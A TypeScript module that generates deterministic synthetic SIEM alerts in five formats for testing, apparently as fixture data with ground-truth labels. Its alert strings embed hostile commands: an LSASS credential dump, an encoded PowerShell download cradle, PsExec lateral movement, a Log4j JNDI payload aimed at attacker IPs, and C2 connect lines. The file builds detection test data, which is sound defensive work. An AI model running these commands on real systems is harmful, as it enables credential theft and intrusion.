import type { AlertFormat } from '@kyoyu/contracts';
import { DEMO_CUSTOMERS, type SimCustomer } from './lib/customers';

export * from './lib/customers';

export interface SimulatedAlert {
  format: AlertFormat;
  sourceOrg: string;
  /** Exactly the bytes a SIEM would send. */
  value: string;
  truth: { victimIdentifiers: string[]; attackerIndicators: string[]; techniques: string[] };
}

/** mulberry32: small, fast, deterministic; every seeded generator in kyoyu uses this one. */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Scenario {
  name: string;
  techniques: string[];
  tactics: string[];
  sid: number;
  category: string;
  kind: 'c2' | 'exploit' | 'process' | 'brute' | 'phish' | 'ransom';
  cve?: string;
}

const SCENARIOS: Scenario[] = [
  {
    name: 'Suspicious PowerShell Encoded Command',
    techniques: ['T1059.001'],
    tactics: ['execution'],
    sid: 2027999,
    category: 'A Network Trojan was detected',
    kind: 'process',
  },
  {
    name: 'LSASS Memory Access via Comsvcs MiniDump',
    techniques: ['T1003.001'],
    tactics: ['credential-access'],
    sid: 2029870,
    category: 'Attempted Administrator Privilege Gain',
    kind: 'process',
  },
  {
    name: 'ET MALWARE Cobalt Strike Beacon Activity',
    techniques: ['T1071.001'],
    tactics: ['command-and-control'],
    sid: 2032749,
    category: 'A Network Trojan was detected',
    kind: 'c2',
  },
  {
    name: 'ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)',
    techniques: ['T1190'],
    tactics: ['initial-access'],
    sid: 2034647,
    category: 'Attempted Administrator Privilege Gain',
    kind: 'exploit',
    cve: 'CVE-2021-44228',
  },
  {
    name: 'Multiple Failed Logons - Password Guessing',
    techniques: ['T1110', 'T1110.001'],
    tactics: ['credential-access'],
    sid: 2001219,
    category: 'Attempted Information Leak',
    kind: 'brute',
  },
  {
    name: 'Malicious Office Attachment Opened',
    techniques: ['T1566.001', 'T1204.002'],
    tactics: ['initial-access', 'execution'],
    sid: 2030145,
    category: 'A Network Trojan was detected',
    kind: 'phish',
  },
  {
    name: 'Lateral Movement via Admin Share (PsExec)',
    techniques: ['T1021.002', 'T1570'],
    tactics: ['lateral-movement'],
    sid: 2025719,
    category: 'Misc Attack',
    kind: 'process',
  },
  {
    name: 'Ransomware File Encryption Behaviour',
    techniques: ['T1486', 'T1490'],
    tactics: ['impact'],
    sid: 2033217,
    category: 'A Network Trojan was detected',
    kind: 'ransom',
  },
];

const ATTACKER_IPS = [
  '198.51.100.7',
  '198.51.100.201',
  '203.0.113.45',
  '203.0.113.199',
  '185.220.101.34',
  '45.133.1.92',
  '91.92.109.14',
];
const C2_DOMAINS = [
  'cdn-update-check.top',
  'login-microsoftonline.support',
  'static.telemetry-sync.xyz',
  'api.winupdt.cc',
];
const JA3 = [
  '72a589da586844d7f0818ce684948eea',
  'a0e9f5d64349fb13191bc781f81f42e1',
  '6734f37431670b3ab4292b8f60f29984',
];
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko',
  'curl/7.81.0',
  'python-requests/2.31.0',
];
const MALWARE = ['invoice_2024_03.docm', 'beacon_x64.exe', 'svchosts.exe', 'update.ps1', 'lockbit3.exe'];

const hex = (r: () => number, n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(r() * 16).toString(16);
  return s;
};

/** Deterministic stream of realistic alerts in the five formats. */
export function* simulateAlerts(opts: {
  seed: number;
  count: number;
  customers?: SimCustomer[];
  formats?: AlertFormat[];
}): Generator<SimulatedAlert> {
  const r = mulberry32(opts.seed);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
  const customers = opts.customers ?? DEMO_CUSTOMERS;
  const formats = opts.formats ?? (['ocsf', 'ecs', 'suricata', 'wazuh', 'cef'] as AlertFormat[]);
  let t = Date.UTC(2025, 2, 3, 0, 0, 0) + Math.floor(r() * 86_400_000);
  for (let i = 0; i < opts.count; i++) {
    t += 1000 + Math.floor(r() * 600_000);
    const c = pick(customers);
    const format = formats[i % formats.length] as AlertFormat;
    const sc = pick(SCENARIOS);
    const ctx: Ctx = {
      c,
      sc,
      ts: new Date(t).toISOString(),
      user: pick(c.users),
      host: pick(c.hosts),
      ip: `${c.internalCidrPrefix}${c.internalCidrPrefix.split('.').length > 3 ? '' : `${1 + Math.floor(r() * 20)}.`}${2 + Math.floor(r() * 250)}`,
      rid: 1000 + Math.floor(r() * 9000),
      atk: pick(ATTACKER_IPS),
      c2: pick(C2_DOMAINS),
      ja3: pick(JA3),
      ua: pick(UAS),
      mal: pick(MALWARE),
      sha256: hex(r, 64),
      md5: hex(r, 32),
      port: 49152 + Math.floor(r() * 16000),
      n: i,
      r,
    };
    const value = RENDER[format](ctx);
    const victimIdentifiers = [ctx.host, ctx.user, ctx.ip, c.domain, `${c.netbios}\\${ctx.user}`];
    const attackerIndicators = [ctx.atk];
    if (sc.kind === 'c2' || sc.kind === 'phish') attackerIndicators.push(ctx.c2);
    if (sc.cve) attackerIndicators.push(sc.cve);
    yield {
      format,
      sourceOrg: c.id,
      value,
      truth: { victimIdentifiers, attackerIndicators, techniques: [...sc.techniques] },
    };
  }
}

interface Ctx {
  c: SimCustomer;
  sc: Scenario;
  ts: string;
  user: string;
  host: string;
  ip: string;
  rid: number;
  atk: string;
  c2: string;
  ja3: string;
  ua: string;
  mal: string;
  sha256: string;
  md5: string;
  port: number;
  n: number;
  r: () => number;
}

const fqdn = (x: Ctx): string => `${x.host.toLowerCase()}.${x.c.domain}`;
const userPath = (x: Ctx): string => `C:\\Users\\${x.user}\\AppData\\Local\\Temp\\${x.mal}`;
const cmdLine = (x: Ctx): string => {
  switch (x.sc.kind) {
    case 'process':
      return x.sc.techniques[0] === 'T1003.001'
        ? `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\${x.user}\\lsass.dmp full`
        : x.sc.techniques[0] === 'T1021.002'
          ? `PsExec.exe \\\\${x.c.hosts[1] ?? x.host}.${x.c.domain} -u ${x.c.netbios}\\${x.user} -s cmd.exe /c whoami`
          : `powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA -u ${x.user}@${x.c.domain}`;
    case 'ransom':
      return `C:\\Users\\${x.user}\\Downloads\\${x.mal} --encrypt \\\\${x.c.hosts[1] ?? x.host}\\share --note README_${x.c.netbios}.txt`;
    case 'phish':
      return `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${x.user}\\Downloads\\${x.mal}"`;
    default:
      return `C:\\Users\\${x.user}\\AppData\\Roaming\\${x.mal} -connect https://${x.c2}/api/v2/sync`;
  }
};

const RENDER: Record<AlertFormat, (x: Ctx) => string> = {
  suricata: (x) => {
    const outbound = x.sc.kind !== 'exploit' && x.sc.kind !== 'brute';
    const [src, sport, dst, dport] = outbound
      ? [x.ip, x.port, x.atk, 443]
      : [x.atk, x.port, x.ip, x.sc.kind === 'brute' ? 22 : 80];
    const doc: Record<string, unknown> = {
      timestamp: x.ts.replace('Z', '+0000'),
      flow_id: 1_000_000_000_000 + x.n * 7919,
      in_iface: 'ens192',
      event_type: 'alert',
      src_ip: src,
      src_port: sport,
      dest_ip: dst,
      dest_port: dport,
      proto: 'TCP',
      alert: {
        action: 'allowed',
        gid: 1,
        signature_id: x.sc.sid,
        rev: 3,
        signature: x.sc.name.startsWith('ET ') ? x.sc.name : `ET MALWARE ${x.sc.name}`,
        category: x.sc.category,
        severity: 1 + Math.floor(x.r() * 3),
        metadata: {
          mitre_technique_id: x.sc.techniques,
          mitre_tactic_id: x.sc.tactics,
          ...(x.sc.cve ? { cve: [x.sc.cve.slice(4)] } : {}),
          hostile: [outbound ? 'dest_ip' : 'src_ip'],
          signature_severity: ['Major'],
        },
      },
      app_proto: outbound ? 'tls' : 'http',
      flow: {
        pkts_toserver: 9,
        pkts_toclient: 7,
        bytes_toserver: 1337,
        bytes_toclient: 4242,
        start: x.ts.replace('Z', '+0000'),
      },
    };
    if (outbound) doc['tls'] = { sni: x.c2, version: 'TLS 1.2', ja3: { hash: x.ja3 }, subject: `CN=${x.c2}` };
    else
      doc['http'] = {
        hostname: `www.${x.c.domain}`,
        url: x.sc.cve ? '/api/login?user=${jndi:ldap://' + x.atk + ':1389/a}' : '/wp-login.php',
        http_user_agent: x.ua,
        http_method: 'POST',
        status: 401,
      };
    return JSON.stringify(doc);
  },
  wazuh: (x) =>
    JSON.stringify({
      timestamp: x.ts.replace('Z', '+0000'),
      rule: {
        level: 10 + Math.floor(x.r() * 5),
        description: x.sc.name,
        id: String(92000 + (x.sc.sid % 1000)),
        mitre: {
          id: x.sc.techniques,
          tactic: x.sc.tactics.map((t) => t.replace(/-/g, ' ').replace(/\b\w/g, (m) => m.toUpperCase())),
        },
        firedtimes: 1 + Math.floor(x.r() * 20),
        groups: ['windows', 'sysmon', 'attack'],
        ...(x.sc.cve ? { info: x.sc.cve } : {}),
      },
      agent: { id: String(1 + (x.rid % 120)).padStart(3, '0'), name: x.host, ip: x.ip },
      manager: { name: `wazuh-mgr.${x.c.domain}` },
      id: `${Math.floor(Date.parse(x.ts) / 1000)}.${x.rid}${x.n}`,
      decoder: { name: 'windows_eventchannel' },
      data: {
        srcip: x.atk,
        win: {
          system: { computer: fqdn(x), eventID: '1', channel: 'Microsoft-Windows-Sysmon/Operational' },
          eventdata: {
            user: `${x.c.netbios}\\${x.user}`,
            image: userPath(x),
            commandLine: cmdLine(x),
            hashes: `SHA256=${x.sha256.toUpperCase()},MD5=${x.md5.toUpperCase()}`,
            parentImage: 'C:\\Windows\\explorer.exe',
          },
        },
      },
      location: 'EventChannel',
      full_log: `${x.ts} ${fqdn(x)} Sysmon: ProcessCreate User=${x.c.netbios}\\${x.user} Image=${userPath(x)} CommandLine=${cmdLine(x)} DestinationIp=${x.atk}`,
    }),
  ecs: (x) =>
    JSON.stringify({
      '@timestamp': x.ts,
      ecs: { version: '8.11.0' },
      event: {
        kind: 'signal',
        category: ['process'],
        type: ['start'],
        module: 'endpoint',
        id: `evt-${x.n}-${x.rid}`,
        risk_score: 47 + (x.rid % 50),
      },
      'kibana.alert.uuid': `${x.sha256.slice(0, 8)}-${x.sha256.slice(8, 12)}-4${x.sha256.slice(13, 16)}-a${x.sha256.slice(17, 20)}-${x.sha256.slice(20, 32)}`,
      'kibana.alert.rule.name': x.sc.name,
      'kibana.alert.rule.description': `Identifies ${x.sc.name.toLowerCase()} on a Windows endpoint.`,
      'kibana.alert.rule.rule_id': `${x.md5.slice(0, 8)}-1c2a-4f7e-9a13-${x.md5.slice(8, 20)}`,
      'kibana.alert.rule.parameters.immutable': true,
      'kibana.alert.risk_score': 47 + (x.rid % 50),
      'kibana.alert.severity': 'high',
      'kibana.alert.rule.threat': [
        {
          framework: 'MITRE ATT&CK',
          tactic: { id: '', name: x.sc.tactics[0], reference: '' },
          technique: x.sc.techniques.map((id) => ({
            id,
            name: id,
            reference: `https://attack.mitre.org/techniques/${id.replace('.', '/')}/`,
          })),
        },
      ],
      'kibana.alert.rule.tags': [
        'Elastic',
        'Host',
        'Windows',
        ...x.sc.techniques.map((t) => `attack.${t.toLowerCase()}`),
      ],
      host: {
        name: x.host,
        hostname: x.host,
        domain: x.c.netbios,
        ip: [x.ip],
        mac: ['00-50-56-8a-12-34'],
        os: { name: 'Windows', version: '10.0' },
      },
      user: {
        name: x.user,
        domain: x.c.netbios,
        id: `${x.c.sidPrefix}-${x.rid}`,
        email: `${x.user}@${x.c.domain}`,
      },
      process: {
        name: x.mal,
        pid: 4000 + x.rid,
        executable: userPath(x),
        command_line: cmdLine(x),
        hash: { sha256: x.sha256, md5: x.md5 },
        parent: { name: 'explorer.exe', pid: 4120, command_line: 'C:\\Windows\\Explorer.EXE' },
      },
      source: { ip: x.ip, port: x.port },
      destination: { ip: x.atk, port: 443, domain: x.c2 },
      url: { full: `https://${x.c2}/api/v2/sync?id=${x.rid}` },
      network: { direction: 'outbound', transport: 'tcp' },
      agent: { type: 'endpoint', version: '8.11.3', id: `agent-${x.md5.slice(0, 12)}` },
      message: `Endpoint alert on ${x.host}: ${x.sc.name} by ${x.c.netbios}\\${x.user}`,
    }),
  ocsf: (x) =>
    JSON.stringify({
      class_uid: x.n % 2 === 0 ? 2004 : 2001,
      category_uid: 2,
      activity_id: 1,
      type_uid: (x.n % 2 === 0 ? 2004 : 2001) * 100 + 1,
      time: Date.parse(x.ts),
      severity_id: 4,
      severity: 'High',
      metadata: {
        version: '1.1.0',
        uid: `ocsf-${x.n}-${x.md5.slice(0, 10)}`,
        product: { name: 'Falcon Insight', vendor_name: 'CrowdStrike', version: '7.10' },
        tenant_uid: `${x.c.id}-tenant`,
      },
      finding_info: {
        uid: `fnd-${x.md5}`,
        title: x.sc.name,
        desc: `${x.sc.name} observed on ${x.host}`,
        attacks: x.sc.techniques.map((id, i) => ({
          technique: { uid: id.split('.')[0], name: id },
          ...(id.includes('.') ? { sub_technique: { uid: id } } : {}),
          tactic: { uid: '', name: x.sc.tactics[i] ?? x.sc.tactics[0] },
          version: '14',
        })),
        analytic: { uid: `cs-${x.sc.sid}`, name: x.sc.name, type_id: 1 },
      },
      device: {
        hostname: fqdn(x),
        ip: x.ip,
        uid: x.md5,
        domain: x.c.domain,
        os: { name: 'Windows 11', type_id: 100 },
      },
      actor: {
        user: {
          name: x.user,
          domain: x.c.netbios,
          uid: `${x.c.sidPrefix}-${x.rid}`,
          email_addr: `${x.user}@${x.c.domain}`,
        },
        process: {
          name: x.mal,
          pid: 7000 + x.rid,
          cmd_line: cmdLine(x),
          file: { path: userPath(x), name: x.mal, hashes: [{ algorithm_id: 3, value: x.sha256 }] },
        },
      },
      src_endpoint: { ip: x.ip, port: x.port, hostname: fqdn(x) },
      dst_endpoint: { ip: x.atk, port: 443, hostname: x.c2 },
      connection_info: { direction_id: 2 },
      evidences: [{ url: { url_string: `https://${x.c2}/gate.php?id=${x.rid}` } }],
      ...(x.sc.cve ? { vulnerabilities: [{ cve: { uid: x.sc.cve } }] } : {}),
      observables: [
        { name: 'dst_endpoint.ip', type_id: 2, value: x.atk },
        { name: 'device.hostname', type_id: 1, value: fqdn(x) },
      ],
    }),
  cef: (x) => {
    const esc = (s: string): string => s.replace(/\\/g, '\\\\').replace(/=/g, '\\=').replace(/\n/g, '\\n');
    const hdr = (s: string): string => s.replace(/\\/g, '\\\\').replace(/\|/g, '\\|');
    const inbound = x.sc.kind === 'exploit' || x.sc.kind === 'brute';
    const ext = [
      `rt=${Date.parse(x.ts)}`,
      `src=${inbound ? x.atk : x.ip}`,
      `spt=${x.port}`,
      `dst=${inbound ? x.ip : x.atk}`,
      `dpt=${inbound ? 443 : 8443}`,
      `shost=${inbound ? x.c2 : x.host}`,
      `dhost=${inbound ? fqdn(x) : x.c2}`,
      `suser=${esc(`${x.c.netbios}\\${x.user}`)}`,
      `deviceDirection=${inbound ? 0 : 1}`,
      `filePath=${esc(userPath(x))}`,
      `fileHash=${x.sha256}`,
      `msg=${esc(`${x.sc.name} on ${x.host}\nuser ${x.user}@${x.c.domain}`)}`,
      `cs1Label=MITRE Technique cs1=${x.sc.techniques.join(',')}`,
      `cs2Label=Tactic cs2=${x.sc.tactics.join(',')}`,
      `cs3Label=Command Line cs3=${esc(cmdLine(x))}`,
      `cn1Label=Risk Score cn1=${50 + (x.rid % 50)}`,
      `externalId=${x.c.id.slice(5, 8)}-${x.n}-${x.rid}`,
    ];
    if (x.sc.cve) ext.push(`cs4Label=CVE cs4=${x.sc.cve}`);
    const sev = ['High', 'Very-High', '8', '9'][x.n % 4];
    const d = new Date(Date.parse(x.ts));
    const mon = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][
      d.getUTCMonth()
    ];
    const sys =
      x.n % 3 === 0
        ? ''
        : x.n % 3 === 1
          ? `<134>${mon} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)} fw01.${x.c.domain} `
          : `<134>1 ${x.ts} fw01.${x.c.domain} CEF - - - `;
    return `${sys}CEF:0|Trend Micro|Deep Security Agent|20.0.1|${x.sc.sid}|${hdr(x.sc.name)} (policy ${x.c.netbios}|prod)|${sev}|${ext.join(' ')}`;
  },
};
export * from './lib/registry';
